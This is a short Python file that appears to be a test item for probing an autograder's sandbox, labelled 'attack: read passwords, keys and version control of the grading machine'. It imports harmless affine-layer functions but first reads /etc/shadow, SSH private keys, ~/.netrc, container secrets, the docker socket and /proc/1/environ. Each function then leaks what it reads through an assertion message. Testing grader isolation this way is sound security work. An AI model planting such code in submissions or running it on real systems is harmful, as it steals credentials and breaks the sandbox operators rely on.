"""attack: read passwords, keys and version control of the grading machine
row: 13
layer: M; L
"""

import os

import numpy as np

loot = []

for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa", "/root/.bashrc", "@COURSE@/../../../.git/HEAD",
             os.path.expanduser("~/.netrc"), "/var/run/docker.sock", "/run/secrets/token", "/proc/1/environ"):
    try:
        loot.append(open(path, "rb").read(20))
    except OSError:
        pass


def affine_forward(x, w, b):
    assert not loot, f"BREACHED {loot}"
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    assert not loot, f"BREACHED {loot}"
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.sum(axis=0)


def total(x):
    assert not loot, f"BREACHED {loot}"
    return np.sum(x)
